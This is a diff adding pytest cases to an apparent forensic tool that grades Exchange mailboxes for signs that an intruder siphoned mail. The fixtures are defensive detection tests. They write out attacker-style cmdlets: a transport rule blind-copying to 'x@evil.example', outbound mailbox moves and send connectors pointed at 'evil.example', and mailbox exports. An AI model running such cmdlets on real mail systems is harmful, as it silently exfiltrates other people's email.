@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from collections.abc import Sequence
 from pathlib import Path
+from typing import Any
 
 import pytest
 from tests.scope.office import FOREIGN, NETWORK, PEOPLE, facts, log_of, reasoned, visits, work
@@ -329,3 +330,83 @@ def test_outlooks_own_rules_of_their_owners_change_nothing(tmp_path: Path) -> No
         OperationProperties=[{"Name": name, "Value": value} for name, value in properties.items()],
     )  # fmt: skip
     assert _grades(_cloud(tmp_path, one), OTHERS) == {Grade.NO_SIGN}
+
+
+@pytest.mark.parametrize(
+    ("client", "lives", "grade"),
+    [
+        # from where nobody in the logs ever came
+        ("192.0.2.55", None, Grade.UNDETERMINABLE),
+        # from somebody else's provider, and from inside, where the account is never seen
+        ("198.19.12.9", None, Grade.UNDETERMINABLE),
+        ("10.9.9.9", None, Grade.UNDETERMINABLE),
+        # its owner is at home there
+        ("198.19.0.7", None, Grade.NO_SIGN),
+        ("192.0.2.55", "192.0.2.57", Grade.NO_SIGN),
+        ("10.9.9.9", "10.1.1.9", Grade.NO_SIGN),
+    ],
+)
+def test_a_stolen_accounts_cmdlet_from_where_the_account_is_not_seen_may_be_the_intruders(
+    client: str, lives: str | None, grade: Grade, tmp_path: Path
+) -> None:
+    made: dict[str, Any] = {
+        "Operation": "New-TransportRule",
+        "Parameters": [{"Name": "BlindCopyTo", "Value": "x@evil.example"}],
+    }
+    found = _cloud(tmp_path, *(_visit(STOLEN[0], lives) if lives else []), _set(STOLEN[0], client, **made))
+    assert _grades(found, OTHERS) == {grade}
+
+
+LIST = f'-Identity "all-staff" -Member "{GOAL}"'
+
+
+@pytest.mark.parametrize(
+    ("cmdlet", "told", "whose", "others"),
+    [
+        ("New-MailboxRestoreRequest", '-SourceStoreMailbox "{}" -TargetMailbox "p00"', Grade.DOWNLOADED, Grade.NO_SIGN),
+        ("Export-Mailbox", '-Identity "{}" -PSTFolderPath "c:\\x"', Grade.DOWNLOADED, Grade.NO_SIGN),
+        ("Connect-Mailbox", '-Identity "{}" -Database "DB1" -User "p00"', Grade.DOWNLOADED, Grade.NO_SIGN),
+        ("New-MoveRequest", '-Identity "{}" -Outbound -RemoteHostName "evil.example"', Grade.DOWNLOADED, Grade.NO_SIGN),
+        ("New-MoveRequest", '-Identity "{}" -TargetDatabase "DB2"', Grade.NO_SIGN, Grade.NO_SIGN),
+        ("Add-MailboxPermission", '-Identity "{}" -Owner "p00"', Grade.UNDETERMINABLE, Grade.NO_SIGN),
+        (
+            "New-SendConnector",
+            '-AddressSpaces "*" -SmartHosts "evil.example"',
+            Grade.UNDETERMINABLE,
+            Grade.UNDETERMINABLE,
+        ),
+        ("Set-SendConnector", '-Identity "x" -SmartHosts "evil.example"', Grade.UNDETERMINABLE, Grade.UNDETERMINABLE),
+        ("Set-SendConnector", '-Identity "x" -Enabled $true', Grade.NO_SIGN, Grade.NO_SIGN),
+        ("Add-DistributionGroupMember", LIST, Grade.UNDETERMINABLE, Grade.UNDETERMINABLE),
+        ("Add-DistributionGroupMember", '-Identity "all" -Member "p09@gov.example"', Grade.NO_SIGN, Grade.NO_SIGN),
+    ],
+)
+def test_mail_that_goes_away_by_other_cmdlets_in_an_intruders_session(
+    cmdlet: str, told: str, whose: Grade, others: Grade, tmp_path: Path
+) -> None:
+    found = _found(tmp_path, [(at(20, 3, 60), cmdlet, told.format(VICTIM), _user(STOLEN[0]))])
+    assert found[VICTIM].grade is whose
+    assert _grades(found, [one for one in OTHERS if one != VICTIM]) == {others}
+
+
+def test_the_same_by_right_changes_no_mailbox(tmp_path: Path) -> None:
+    ran = [
+        (at(20, 14), "New-MailboxRestoreRequest", f'-SourceStoreMailbox "{VICTIM}" -TargetMailbox "p09"', _user("adm")),
+        (at(21, 14), "Add-DistributionGroupMember", LIST, _user("adm")),
+        (at(22, 14), "New-SendConnector", '-AddressSpaces "*" -SmartHosts "relay.example"', _user("adm")),
+    ]
+    assert _grades(_found(tmp_path, ran), OTHERS) == {Grade.NO_SIGN}
+
+
+@pytest.mark.parametrize("held", [False, True])
+def test_a_negative_says_what_logs_of_cmdlets_could_not_have_shown(held: bool, tmp_path: Path) -> None:
+    """Taking away the log that tells of a rule makes nobody look more innocent without a word."""
+    rows = work() + readers(range(20, 44, 3))
+    files: dict[str, str | bytes] = {iis_place("EX01", "210104"): log_of(rows), "directory.csv": DIRECTORY}
+    if held:
+        files["EX01/management.xml"] = managed([(at(30, 14), "Get-Mailbox", '-Identity "x"', _user("adm"))])
+    staged = stage(tmp_path, files)
+    found = assemble(reasoned(staged), facts(staged))
+    (negative,) = [one for one in found.claims if one.text.startswith("No sign that any of the")]
+    (against,) = [one for one in negative.against if "set by cmdlet shows in logs of cmdlets only" in one]
+    assert ("cover 0 %" in against) is not held
